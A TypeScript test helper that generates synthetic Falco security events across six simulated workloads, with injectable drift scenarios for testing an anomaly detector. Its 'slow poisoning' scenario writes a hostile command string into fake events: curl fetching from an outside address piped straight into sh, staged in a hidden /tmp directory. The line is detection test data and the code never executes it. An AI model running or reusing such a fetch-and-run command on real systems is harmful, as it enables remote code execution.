/**
 * The boundary of: weeks of traffic for the drift's tests and bench. Six workloads with habits, days
 * and nights, weekdays and weekends; and what can be done to it.
 */
import { asUntrusted, type FalcoEvent, type Priority } from "../../machines/vocabulary.ts";
import { seededRandom, type SeededRandom } from "../../anomaly/random.ts";

const HOUR_MS = 3_600_000;
/** 2026-01-05T00:00:00Z, a Monday. */
const TRAFFIC_START_MS = 1_767_571_200_000;

interface TrafficOptions {
  readonly seed: number;
  readonly fromHour: number;
  readonly hours: number;
  /** Events in an average hour. */
  readonly hourly: number;
  readonly change?: Change;
}

export const CHANGES = [
  "new workload",
  "dropped field",
  "clock shift",
  "tripled rate",
  "slow poisoning",
] as const;
export type Change = (typeof CHANGES)[number];

interface Habit {
  readonly rule: string;
  readonly priority: Priority;
  readonly proc: string;
  readonly parent: string;
  readonly command: string;
  readonly path: string;
  /** 0 at any hour; otherwise mostly by day, or mostly by night. */
  readonly time: "any" | "day" | "night";
}

const PROCESSES = ["node", "java", "nginx", "python3", "redis-server", "postgres"];
const WORKLOADS = ["web", "api", "cache", "db", "worker", "mail"];

function habitsOf(workload: number): readonly Habit[] {
  const proc = PROCESSES[workload]!;
  const habit = (rule: string, more: Partial<Habit>): Habit => ({
    rule,
    priority: "notice",
    proc,
    parent: "containerd-shim",
    command: `${proc} --config /etc/app.conf`,
    path: `/app/${WORKLOADS[workload]}/data/part`,
    time: "any",
    ...more,
  });
  return [
    habit("Read application data", {}),
    habit("Write cache", { path: "/var/cache/app/page" }),
    habit("Read settings", { path: "/etc/app/settings.yaml", priority: "informational" }),
    habit("Contact service", { path: "10.0.0.4:41000->10.0.0.9:5432", time: "day" }),
    habit("Call out", { path: "10.0.0.4:41000->203.0.113.7:443", time: "day" }),
    habit("Rotate logs", {
      proc: "logrotate",
      parent: "cron",
      path: "/var/log/app.log",
      time: "night",
    }),
    habit("Run backup", {
      proc: "tar",
      parent: "sh",
      command: "tar -czf /backup/today.tgz /app/data | tee /var/log/backup",
      path: "/backup/today.tgz",
      time: "night",
    }),
  ];
}

const HABITS = WORKLOADS.map((_, workload) => habitsOf(workload));
const STRANGER: Habit = {
  rule: "Run batch job",
  priority: "warning",
  proc: "julia",
  parent: "launcher",
  command: "julia --threads 8 /opt/jobs/simulate.jl --iterations 100000 --out /scratch/out.bin",
  path: "/scratch/jobs/out.bin",
  time: "any",
};

/** How busy an hour is: three times as much at noon as at night, half as much at weekends. */
function business(hour: number): number {
  const weekend = Math.floor(hour / 24) % 7 >= 5;
  const daily = 1 + 0.5 * Math.sin(((hour % 24) / 24) * 2 * Math.PI - Math.PI / 2);
  return daily * (weekend ? 0.5 : 1.2);
}

export function* traffic(options: TrafficOptions): Generator<FalcoEvent> {
  const { seed, fromHour, hours, hourly, change } = options;
  const random = seededRandom(seed);
  for (let hour = fromHour; hour < fromHour + hours; hour += 1) {
    const factor = change === "tripled rate" ? 3 : 1;
    const mean = hourly * business(hour) * factor;
    const count = Math.max(
      1,
      Math.round(
        mean + Math.sqrt(mean) * (random.next() + random.next() + random.next() - 1.5) * 2,
      ),
    );
    const times = Array.from({ length: count }, () => random.next()).toSorted((a, b) => a - b);
    for (const time of times) {
      yield eventAt(hour, time, random, options);
    }
  }
}

function eventAt(
  hour: number,
  time: number,
  random: SeededRandom,
  { change }: TrafficOptions,
): FalcoEvent {
  const shift = change === "clock shift" ? 10 : 0;
  const atMs = TRAFFIC_START_MS + Math.floor((hour + time + shift) * HOUR_MS);
  if (change === "new workload" && random.next() < 0.3)
    return falco(STRANGER, "sim", atMs, random, change);
  if (change === "slow poisoning" && random.next() < 0.25) {
    const workload = random.below(WORKLOADS.length);
    const habit = HABITS[workload]![0]!;
    const hidden = {
      ...habit,
      proc: "sh",
      parent: habit.proc,
      path: "/tmp/.x/stage",
      command: `sh -c 'curl -s http://203.0.113.9/${random.below(1000)} | sh'`,
    };
    return falco(hidden, WORKLOADS[workload]!, atMs, random, change);
  }
  const workload = random.below(WORKLOADS.length);
  const habits = HABITS[workload]!;
  for (;;) {
    const habit = habits[random.below(habits.length)]!;
    const day = Math.sin(((hour % 24) / 24) * 2 * Math.PI - Math.PI / 2) / 2 + 0.5;
    const likely = habit.time === "any" ? 0.6 : habit.time === "day" ? day : 1 - day;
    if (random.next() < likely) return falco(habit, WORKLOADS[workload]!, atMs, random, change);
  }
}

let made = 0;

function falco(
  habit: Habit,
  workload: string,
  atMs: number,
  random: SeededRandom,
  change: Change | undefined,
): FalcoEvent {
  const replica = random.below(3);
  made += 1;
  const fields = {
    "container.id": `c0ffee${workload}${replica}`,
    "container.name": workload,
    "container.image.repository": `registry.example/shop/${workload}`,
    "k8s.ns.name": "shop",
    "k8s.pod.name": `${workload}-7c9d4f5b6-x2x4${replica}`,
    "user.uid": random.below(10) === 0 ? 0 : 1000,
    "proc.tty": 0,
    "proc.name": habit.proc,
    "proc.pname": habit.parent,
    "proc.exepath": `/usr/bin/${habit.proc}`,
    ...(change === "dropped field"
      ? {}
      : { "proc.cmdline": `${habit.command} ${"x".repeat(random.below(30))}` }),
    "fd.name": habit.path,
    "evt.type": "openat",
  };
  const typed = Object.entries(fields).map(([name, value]) => [
    name,
    typeof value === "string" ? asUntrusted(value) : value,
  ]);
  return {
    digest: made.toString(16).padStart(64, "0"),
    timeNs: `${atMs}000000`,
    rule: asUntrusted(habit.rule),
    priority: habit.priority,
    source: asUntrusted("syscall"),
    hostname: asUntrusted("worker-1"),
    tags: [],
    output: asUntrusted(""),
    fields: Object.fromEntries(typed) as FalcoEvent["fields"],
    internal: false,
  };
}
